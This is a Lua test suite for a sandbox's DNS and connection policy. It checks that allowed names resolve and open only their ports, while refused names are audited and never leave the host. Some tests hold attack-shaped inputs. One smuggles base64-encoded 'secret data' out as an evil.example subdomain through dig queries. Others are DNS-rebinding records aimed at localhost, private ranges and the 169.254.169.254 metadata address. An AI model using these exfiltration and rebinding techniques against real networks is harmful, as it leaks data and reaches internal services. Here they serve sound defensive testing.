-- Names under lattice run: what resolves, what it opens, for how long and for whom, and what never leaves the host.
package.path = "tests/support/?.lua;" .. package.path
local World = require("world")

local zone = [[
plain.example    A      203.0.113.9   60
plain.example    AAAA   2001:db8::9   60
chain.example    CNAME  one.example   60
one.example      CNAME  two.example   60
two.example      A      203.0.113.9   60
other.example    A      203.0.113.10  60
short.example    A      203.0.113.9   1
*.wild.example   A      203.0.113.10  60
wild.example     A      203.0.113.10  60
cut.example      TRUNCATE
cut.example      A      203.0.113.9   60
slow.example     SILENT
broken.example   SERVFAIL
rebind.example   A      127.0.0.1
rebind.example   A      169.254.169.254
rebind.example   A      10.9.8.7
half.example     A      10.9.8.7
half.example     A      203.0.113.9
inner.example    A      10.9.8.7
mapped.example   AAAA   ::ffff:a09:807
]]

-- Takes connections on every address, port 80, and says "served" to each.
local server = [[
local uv = require("luv")
uv.new_signal():start("sigpipe", function() end) -- a client that is killed must not end the server
local listener = uv.new_tcp()
assert(listener:bind("::", 80))
listener:listen(128, function()
  local peer = uv.new_tcp()
  listener:accept(peer)
  peer:write("served\n", function() peer:close() end)
end)
local echo = uv.new_tcp() -- port 82 keeps the connection
assert(echo:bind("::", 82))
echo:listen(16, function()
  local peer = uv.new_tcp()
  echo:accept(peer)
  peer:read_start(function(_, data) if data then peer:write(data) else peer:close() end end)
end)
uv.run()
]]

local plain = [[policy "t" allow "tcp to plain.example port 80"]]

-- get HOST: "served", or what went wrong, as bash and its C library see it.
local get = [[
get() { if exec 3<>/dev/tcp/$1/80; then read -r line <&3; echo "$1: $line"; exec 3>&-; else echo "$1: refused"; fi; }
]]

local missing = World.missing()

describe("names under lattice run", function()
  if missing then
    pending("all of it", missing)
    return
  end
  local world, log

  setup(function()
    world = World.new()
    log = world.dir .. "/queries"
    world:serve({ "lua5.4", "tests/support/dns_server.lua", "203.0.113.9", world:file("zone", zone), log },
      { udp = 53, tcp = 53 })
    world:serve({ "lua5.4", world:file("server.lua", server) }, { tcp = { 80, 82 } })
    for _, words in ipairs({
      { "server", "addr", "add", "10.9.8.7/32", "dev", "lo" },
      { "host", "route", "add", "10.9.8.0/24", "via", "203.0.113.9" },
    }) do
      assert.equal(0, world:run(words[1], { "ip", table.unpack(words, 2) }).status)
    end
  end)

  teardown(function()
    if world then world:close() end
  end)

  local function seen(name)
    return (World.read(log) or ""):find(name, 1, true) ~= nil
  end

  -- What a script prints under a policy, and its process.
  local function bash(policy, script, opts)
    if script:find("%f[%w]dig ") and not World.has("dig") then pending("dig is not installed") end
    local p = world:under(policy, { "bash", "-c", get .. script }, opts)
    return p.out, p
  end

  it("an allowed name opens its addresses and no others", function()
    local out = bash(plain, [[
      get plain.example; get 203.0.113.9; get 203.0.113.10; get 2001:db8::9; get 2001:db8::a]])
    assert.equal([[
plain.example: served
203.0.113.9: served
203.0.113.10: refused
2001:db8::9: served
2001:db8::a: refused
]], out)
  end)

  it("the address of an allowed name is refused to one who did not ask for the name", function()
    local out = bash(plain, "get 203.0.113.9; get 2001:db8::9")
    assert.equal("203.0.113.9: refused\n2001:db8::9: refused\n", out)
  end)

  it("a name opens only the ports of its rule", function()
    local out = bash([[policy "t" allow "tcp to plain.example port 443"]], "get plain.example")
    assert.equal("plain.example: refused\n", out)
  end)

  it("a name that no rule allows is refused, audited, and never leaves the host", function()
    local secret = "c2VjcmV0LWRhdGEtZ29lcy1vdXQtYnktbmFtZQ.evil.example"
    local out, p = bash(plain, (([[
      for type in A AAAA TXT MX HTTPS NULL; do dig +tries=1 $type %s; done | grep -c 'status: REFUSED'
      dig +tcp %s | grep -c 'status: REFUSED'
      get %s
      get sub.plain.example]]):gsub("%%s", secret)))
    assert.equal(("6\n1\n%s: refused\nsub.plain.example: refused\n"):format(secret), out)
    assert.is_false(seen("evil.example"))
    assert.is_false(seen("sub.plain.example"))
    assert.is_true(#World.find(p.audit, { kind = "dns", action = "deny", name = secret:lower() }) >= 7)
  end)

  it("tells an asker that can show it why a name is refused", function()
    local out = bash([[policy "t"]], "dig evil.example")
    assert.truthy(out:find("EDE: 15 %(Blocked%).*no rule of the policy allows this name"))
  end)

  it("a wildcard opens names below and not the name itself", function()
    local out = bash([[policy "t" allow "tcp to *.wild.example port 80"]],
      "get a.wild.example; get b.c.wild.example; get wild.example; get awild.example")
    assert.equal("a.wild.example: served\nb.c.wild.example: served\nwild.example: refused\nawild.example: refused\n",
      out)
    assert.is_false(seen("\nwild.example"))
  end)

  it("follows aliases, and an alias's target is not thereby a name to ask for", function()
    local out = bash([[policy "t" allow "tcp to chain.example port 80"]], [[
      dig +short chain.example; get chain.example; dig two.example | grep -o 'status: [A-Z]*']])
    assert.equal("one.example.\ntwo.example.\n203.0.113.9\nchain.example: served\nstatus: REFUSED\n", out)
  end)

  it("keeps private addresses from names whose rule does not ask for them", function()
    local out, p = bash([[policy "t" allow "tcp to rebind.example, half.example, mapped.example port 80"]], [[
      dig rebind.example | grep -o 'status: [A-Z]*\|ANSWER: [0-9]*'; dig +short half.example
      dig +short mapped.example AAAA; get rebind.example; get half.example; get 10.9.8.7]])
    assert.equal("status: NOERROR\nANSWER: 0\n203.0.113.9\nrebind.example: refused\nhalf.example: served\n"
      .. "10.9.8.7: refused\n", out)
    assert.is_true(#World.find(p.audit, { kind = "dns", action = "deny", name = "rebind.example" }) > 0)
  end)

  it("gives private addresses to a name whose rule says private = true", function()
    local out = bash([[policy "t"
      allow { proto = "tcp", to = "inner.example", port = "80", private = true }]],
      "get 10.9.8.7; get inner.example; get 10.9.8.7")
    assert.equal("10.9.8.7: refused\ninner.example: served\n10.9.8.7: served\n", out)
  end)

  it("a pin ends with its TTL and grace, a reload cuts nothing for it, and a new answer opens it again", function()
    local _, p = bash([[policy "t" allow "tcp to short.example port 80, 82"]], [[
      exec 4<>/dev/tcp/short.example/82
      dig +short short.example; start=$SECONDS; get 203.0.113.9
      while get 203.0.113.9 2>/dev/null | grep -q served && ((SECONDS - start < 45)); do read -t 0.3 <> <(:); done
      echo "ended after $((SECONDS - start))"; read -r go; echo "still there" >&4; read -r -t 5 line <&4; echo "$line"
      get short.example]], { background = true, stdin = "open" })
    p:expect("ended after", 60000)
    p:kill("sighup")
    p:expect("0 open connections cut")
    p:write("go\n")
    local out = p:wait().out
    local first, after, last = out:match("^203.0.113.9\n(.-)\nended after (%d+)\n(.*)$")
    assert.equal("203.0.113.9: served", first)
    assert.is_true(tonumber(after) >= 30 and tonumber(after) <= 40, "ended after " .. after .. " s")
    assert.equal("still there\nshort.example: served\n", last)
  end)

  it("two runs do not share what they were told", function()
    local first = world:under(plain, { "bash", "-c", get .. "get plain.example; read -r x; get 203.0.113.9" },
      { background = true, stdin = "open" })
    first:expect("plain.example: served")
    assert.equal("203.0.113.9: refused\n", (bash(plain, "get 203.0.113.9")))
    first:write("\n")
    assert.equal("plain.example: served\n203.0.113.9: served\n", first:wait().out)
  end)

  it("answers over TCP, several on one connection, and what was cut upstream", function()
    local out = bash([[policy "t" allow "tcp to plain.example, cut.example port 80"]], [[
      dig +tcp +keepopen +short plain.example evil.example plain.example cut.example; dig +short cut.example]])
    assert.equal("203.0.113.9\n203.0.113.9\n203.0.113.9\n203.0.113.9\n", out)
  end)

  it("other types of an allowed name are empty or not implemented, and ask nobody", function()
    local out = bash(plain, [[
      for type in HTTPS SVCB TXT MX SRV NS SOA CAA; do dig $type plain.example; done |
        grep -c 'status: NOERROR\|ANSWER: 0'
      for type in ANY AXFR; do dig +tcp $type plain.example; done | grep -c 'NOTIMP\|failed'
      dig CH TXT version.bind | grep -o 'status: [A-Z]*'
      dig -x 203.0.113.9 | grep -o 'status: [A-Z]*'
      dig -x 127.0.0.1 | grep -o 'status: [A-Z]*'
      dig +short localhost a.localhost; dig +short AAAA localhost]])
    assert.equal("16\n2\nstatus: NOTIMP\nstatus: REFUSED\nstatus: NXDOMAIN\n127.0.0.1\n127.0.0.1\n::1\n", out)
    assert.is_nil((World.read(log)):match("plain.example [^A]"))
    assert.is_false(seen("arpa"))
  end)

  it("other name servers cannot be asked", function()
    local out = bash(plain, [[
      dig +tries=1 +time=2 @203.0.113.9 byudp.example >/dev/null; echo $?
      dig +tries=1 +time=2 +tcp @203.0.113.9 bytcp.example >/dev/null; echo $?]])
    assert.equal("9\n9\n", out)
    assert.is_false(seen("byudp.example"))
    assert.is_false(seen("bytcp.example"))
  end)

  it("a name server that is silent or broken delays nobody else and ends in time", function()
    local out = bash([[policy "t" allow "tcp to plain.example, slow.example, broken.example port 80"]], [[
      dig +tries=1 +time=9 slow.example | grep -o 'status: [A-Z]*' & start=$SECONDS
      get plain.example; ((SECONDS - start < 3)) && echo soon
      dig broken.example | grep -o 'status: [A-Z]*'; wait; ((SECONDS - start < 8)) && echo ended]])
    assert.equal("plain.example: served\nsoon\nstatus: SERVFAIL\nstatus: SERVFAIL\nended\n", out)
  end)

  it("the host's hosts file is the host's answer", function()
    local out = bash([[policy "t" allow "tcp to hosts-file.example port 80"]], "get hosts-file.example")
    assert.equal("hosts-file.example: served\n", out)
    assert.is_false(seen("hosts-file"))
  end)

  it("a handler may allow names that no rule has", function()
    local out = bash([[policy "t"
      on("dns", function(question) return question.name == "other.example" end)
      on("connect", function(flow) return flow.name == "other.example" end)]],
      "dig +short other.example; dig two.example | grep -o 'status: [A-Z]*'")
    assert.equal("203.0.113.10\nstatus: REFUSED\n", out)
  end)

  -- Each asks for plain.example and evil.example in its own way and must tell them apart, soon.
  local clients = {
    { "getent", [[getent ahosts plain.example; getent ahosts evil.example || echo refused]] },
    { "python3", [[python3 -c '
import socket
for name in ("plain.example", "evil.example"):
    try: print({a[4][0] for a in socket.getaddrinfo(name, 80)})
    except socket.gaierror as e: print("refused", e)']] },
    { "node", [[node -e '
const dns = require("dns")
dns.resolve4("plain.example", (e, a) => { console.log(e || a)
dns.resolve6("plain.example", (e, a) => { console.log(e || a)
dns.lookup("plain.example", { all: true }, (e, a) => { console.log(e || a)
dns.resolve4("evil.example", (e) => console.log(e && "refused", e)) }) }) })']] },
    { "java", [[cat > Look.java <<'END'
public class Look {
  public static void main(String[] args) throws Exception {
    for (var name : new String[] { "plain.example", "evil.example" })
      try { for (var a : java.net.InetAddress.getAllByName(name)) System.out.println(a.getHostAddress()); }
      catch (java.net.UnknownHostException e) { System.out.println("refused " + e); }
  }
}
END
java Look.java]] },
  }
  for _, client in ipairs(clients) do
    it(client[1] .. " resolves what is allowed and is refused the rest at once", function()
      if not World.has(client[1]) then return pending(client[1] .. " is not installed") end
      local started = os.time()
      local out = bash(plain, client[2])
      assert.truthy(out:find("203.0.113.9", 1, true), out)
      assert.truthy(out:find("2001:db8:[0:]*9"), out)
      assert.truthy(out:find("refused"), out)
      assert.is_true(os.time() - started < 15)
      assert.is_false(seen("evil.example"))
    end)
  end

  local function looks_up(program)
    local out = bash([[policy "t" allow "tcp to plain.example, chain.example port 80"]],
      program .. " plain.example evil.example chain.example")
    assert.truthy(out:find("plain.example 203.0.113.9\n", 1, true), out)
    assert.truthy(out:find("plain.example 2001:db8::9\n", 1, true), out)
    assert.truthy(out:find("chain.example 203.0.113.9\n", 1, true), out)
    local ms = out:match("evil.example error: .- (%d+)\n")
    assert.is_true(ms and tonumber(ms) < 1000, out)
  end

  it("glibc is told a refusal at once", function()
    looks_up(World.helpers .. "lookup")
  end)

  it("musl is told a refusal at once", function()
    if not World.has("musl-gcc") then return pending("musl-gcc is not installed") end
    local program = world.dir .. "/lookup-musl"
    assert.equal(0, world:run("host", { "musl-gcc", "-static", "-O1", "-o", program, "tests/helpers/lookup.c" }).status)
    looks_up(program)
  end)

  it("a static Go program resolves by itself", function()
    if not World.has("go") then return pending("go is not installed") end
    local program = world.dir .. "/lookup-go"
    local built = world:run("host", { "env", "CGO_ENABLED=0", "GOFLAGS=-mod=mod", "GOPROXY=off",
      "GOCACHE=" .. world.dir .. "/go-cache", "HOME=" .. world.dir, "go", "build", "-o", program,
      world:file("lookup.go", [[
package main

import (
	"fmt"
	"net"
	"os"
	"time"
)

func main() {
	for _, name := range os.Args[1:] {
		start := time.Now()
		addresses, err := net.LookupHost(name)
		for _, a := range addresses {
			fmt.Println(name, a)
		}
		if err != nil {
			fmt.Println(name, "error:", err, time.Since(start).Milliseconds())
		}
	}
}
]]) }, { timeout = 180000 })
    assert.equal(0, built.status, built.err)
    looks_up(program)
  end)
end)
